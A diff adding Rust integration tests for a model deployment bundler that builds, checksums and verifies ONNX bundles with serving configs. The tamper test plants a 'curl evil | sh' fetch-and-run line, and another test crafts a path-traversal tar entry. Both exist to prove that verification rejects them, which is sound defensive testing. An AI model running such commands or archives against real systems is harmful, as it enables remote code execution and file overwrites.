@@ -1,0 +1,182 @@
+//! Deployment bundles: built from a registered version, verified offline, reproducing Python
+//! onnxruntime's outputs, with every changed byte and unsafe archive entry caught.
+
+use std::path::{Path, PathBuf};
+
+use mirador::core::bundle::{BundleRequest, Example, create_bundle, read_manifest, serving::parse_yaml, verify};
+use mirador::core::registry::{Registration, Registry};
+
+use crate::common::{golden, repo};
+
+fn request(model: PathBuf, reference: bool) -> BundleRequest {
+    BundleRequest {
+        model,
+        source: "test".into(),
+        name: "churn".into(),
+        version: 3,
+        reference: reference.then(|| repo("sample-data/churn_current.csv")),
+        target: reference.then(|| "churned".into()),
+        history: vec!["v3 promoted to production".into()],
+        canary_percent: 10,
+        drift_share: 0.5,
+        tar: true,
+    }
+}
+
+fn bundle(dir: &Path) -> PathBuf {
+    let out = dir.join("bundle");
+    create_bundle(&request(repo("sample-models/churn_v2.onnx"), true), &out).unwrap();
+    out
+}
+
+#[test]
+fn a_bundle_from_the_registry_verifies_and_reproduces_onnxruntime() {
+    let dir = tempfile::tempdir().unwrap();
+    let registry = Registry::open(dir.path().join("reg"));
+    registry.add("churn", &repo("sample-models/churn_v2.onnx"), &Registration::default()).unwrap();
+    let model = registry.model_path("churn", 1).unwrap();
+    let out = dir.path().join("bundle");
+    let manifest = create_bundle(&request(model, true), &out).unwrap();
+    let report = verify(&out).unwrap();
+    assert!(report.passed, "{:#?}", report.checks);
+    assert_eq!(report.checks.len(), 9);
+    // Every file is in the manifest with its checksum; the model is the registered one.
+    for rel in [
+        "model.onnx",
+        "MODEL_CARD.md",
+        "MODEL_CARD.html",
+        "schema.json",
+        "openapi.yaml",
+        "examples.json",
+        "reference_profile.json",
+        "alerts.json",
+        "prometheus_rules.yaml",
+        "triton/churn/config.pbtxt",
+        "triton/churn/3/model.onnx",
+        "kserve/inferenceservice.yaml",
+        "Dockerfile",
+        "plots/roc.png",
+    ] {
+        assert!(manifest.files.contains_key(rel), "{rel} missing from the manifest");
+    }
+    assert_eq!(manifest.model_sha256, registry.entry("churn").unwrap().versions[0].sha256);
+    let latency = manifest.latency.as_ref().unwrap();
+    assert!(latency.original_p50_ms > 0.0 && latency.optimized_p50_ms > 0.0);
+    assert_eq!(out.join("model.optimized.onnx").exists(), latency.kept);
+    // The golden rows are the first rows of churn_current.csv: Python onnxruntime's numbers.
+    let examples: Vec<Example> =
+        serde_json::from_str(&std::fs::read_to_string(out.join("examples.json")).unwrap()).unwrap();
+    let expected = golden("churn_v2");
+    for (i, e) in examples.iter().enumerate() {
+        let want: f64 = expected.column("p_1")[i].parse().unwrap();
+        assert!((e.probabilities["1"] - want).abs() < 1e-6, "row {i}");
+        assert_eq!(e.label.as_deref(), Some(expected.column("label")[i].as_str()));
+    }
+    let card = std::fs::read_to_string(out.join("MODEL_CARD.md")).unwrap();
+    assert!(card.starts_with("# Model card — churn"), "{card}");
+    assert!(card.contains("| roc_auc |") && card.contains("![ROC curve"), "metrics and plots in the card");
+    assert!(card.contains("v3 promoted to production"), "version history in the card");
+    // The archive verifies too.
+    assert!(verify(&dir.path().join("bundle.tar.gz")).unwrap().passed);
+}
+
+#[test]
+fn serving_configs_follow_their_schemas() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = bundle(dir.path());
+    let kserve = parse_yaml(&std::fs::read_to_string(out.join("kserve/inferenceservice.yaml")).unwrap()).unwrap();
+    assert_eq!(kserve["apiVersion"].as_str(), Some("serving.kserve.io/v1beta1"));
+    assert_eq!(kserve["kind"].as_str(), Some("InferenceService"));
+    assert_eq!(kserve["metadata"]["name"].as_str(), Some("churn"));
+    assert_eq!(kserve["spec"]["predictor"]["canaryTrafficPercent"].as_i64(), Some(10));
+    assert_eq!(kserve["spec"]["predictor"]["model"]["modelFormat"]["name"].as_str(), Some("onnx"));
+    let openapi = parse_yaml(&std::fs::read_to_string(out.join("openapi.yaml")).unwrap()).unwrap();
+    assert_eq!(openapi["openapi"].as_str(), Some("3.0.3"));
+    let row = &openapi["components"]["schemas"]["Row"]["properties"];
+    assert_eq!(row["contract"]["enum"].as_vec().unwrap().len(), 3);
+    assert_eq!(row["tenure_months"]["type"].as_str(), Some("integer"));
+    let rules = parse_yaml(&std::fs::read_to_string(out.join("prometheus_rules.yaml")).unwrap()).unwrap();
+    let rules = rules["groups"][0]["rules"].as_vec().unwrap();
+    assert!(
+        rules
+            .iter()
+            .any(|r| r["expr"].as_str().unwrap().contains("column=\"monthly_charges\",test=\"wasserstein\"} >= 0.1"))
+    );
+    let config = std::fs::read_to_string(out.join("triton/churn/config.pbtxt")).unwrap();
+    assert!(config.starts_with("name: \"churn\"\nplatform: \"onnxruntime_onnx\""));
+    assert!(config.contains("name: \"contract\"\n    data_type: TYPE_STRING\n    dims: [ -1, 1 ]"));
+    let schema: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(out.join("schema.json")).unwrap()).unwrap();
+    assert_eq!(schema["required"].as_array().unwrap().len(), 9);
+}
+
+#[test]
+fn a_changed_byte_in_any_file_fails_verification_naming_the_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = bundle(dir.path());
+    let manifest = read_manifest(&out).unwrap();
+    for rel in manifest.files.keys() {
+        let path = out.join(rel);
+        let original = std::fs::read(&path).unwrap();
+        let mut changed = original.clone();
+        let at = changed.len() / 2;
+        changed[at] ^= 0x01;
+        std::fs::write(&path, &changed).unwrap();
+        let report = verify(&out).unwrap();
+        assert!(!report.passed, "{rel}: a changed byte went unnoticed");
+        let checksums = &report.checks[0];
+        assert!(!checksums.ok && checksums.detail.contains(rel.as_str()), "{rel}: {}", checksums.detail);
+        std::fs::write(&path, &original).unwrap();
+    }
+    assert!(verify(&out).unwrap().passed, "restored");
+    std::fs::write(out.join("extra.sh"), "curl evil | sh").unwrap();
+    let report = verify(&out).unwrap();
+    assert!(!report.passed && report.checks[0].detail.contains("extra.sh: not in the manifest"));
+}
+
+#[test]
+fn an_archive_entry_leaving_the_bundle_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let archive = dir.path().join("evil.tar.gz");
+    let file = std::fs::File::create(&archive).unwrap();
+    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(file, flate2::Compression::default()));
+    let mut header = tar::Header::new_gnu();
+    let body = b"owned";
+    header.set_size(body.len() as u64);
+    header.set_entry_type(tar::EntryType::Regular);
+    header.set_mode(0o644);
+    // Write the name bytes directly: the tar crate refuses to set a '..' path itself.
+    let name = b"bundle/../../escaped.txt";
+    header.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name);
+    header.set_cksum();
+    tar.append(&header, &body[..]).unwrap();
+    tar.into_inner().unwrap().finish().unwrap();
+    let err = verify(&archive).unwrap_err().to_string();
+    assert!(err.contains("leaves the bundle"), "{err}");
+    assert!(!dir.path().join("escaped.txt").exists());
+}
+
+#[test]
+fn a_bare_model_file_makes_a_bundle_and_failures_leave_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("bare");
+    create_bundle(&request(repo("sample-models/spend_regressor.onnx"), false), &out).unwrap();
+    let report = verify(&out).unwrap();
+    assert!(report.passed, "{:#?}", report.checks);
+    let card = std::fs::read_to_string(out.join("MODEL_CARD.md")).unwrap();
+    assert!(card.contains("Not evaluated yet"), "{card}");
+    // An existing folder is never overwritten.
+    let err = create_bundle(&request(repo("sample-models/spend_regressor.onnx"), false), &out).unwrap_err();
+    assert!(err.to_string().contains("already exists"), "{err}");
+    // A failure halfway (a target the data lacks) leaves no bundle and no temporary folder.
+    let mut bad = request(repo("sample-models/churn_v1.onnx"), true);
+    bad.target = Some("no_such_column".into());
+    let failed = dir.path().join("failed");
+    assert!(create_bundle(&bad, &failed).is_err());
+    let left: Vec<String> = std::fs::read_dir(dir.path())
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(left.iter().all(|n| n == "bare" || n == "bare.tar.gz"), "{left:?}");
+}
